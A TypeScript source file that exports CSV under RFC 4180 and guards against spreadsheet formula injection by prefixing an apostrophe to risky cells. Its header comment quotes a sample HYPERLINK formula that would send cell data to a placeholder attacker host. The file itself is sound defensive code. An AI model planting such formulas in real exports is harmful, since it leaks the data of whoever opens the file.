// CSV as RFC 4180 writes it, made safe to open in a spreadsheet. Device text (window titles,
// user names, typed text) is attacker-controlled: a cell such as `=HYPERLINK("http://evil/?"&A1)`
// would run as a formula in Excel or LibreOffice when a DSL opens the export. Every cell that
// starts with = + - @ TAB or CR gets a leading apostrophe (OWASP "CSV injection"), so it is
// shown as text; then the cell is quoted when it holds a comma, quote, CR or LF.

/**
 * First characters a spreadsheet reads as the start of a formula (or hides one behind): = + - @
 * TAB CR, also after leading spaces or line breaks, which some importers trim.
 */
const FORMULA_START = /^[\t\r]|^\s*[=+\-@]/;
const NEEDS_QUOTES = /[",\r\n]|^\s|\s$/;

/** One cell: formula defence first, then RFC 4180 quoting (quotes doubled inside). */
export function csvCell(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/** A whole file: a header row then the rows, CRLF after every record (RFC 4180 §2). */
export function toCsv(header: readonly string[], rows: readonly (readonly string[])[]): string {
  const line = (cells: readonly string[]) => `${cells.map(csvCell).join(',')}\r\n`;
  return line(header) + rows.map(line).join('');
}
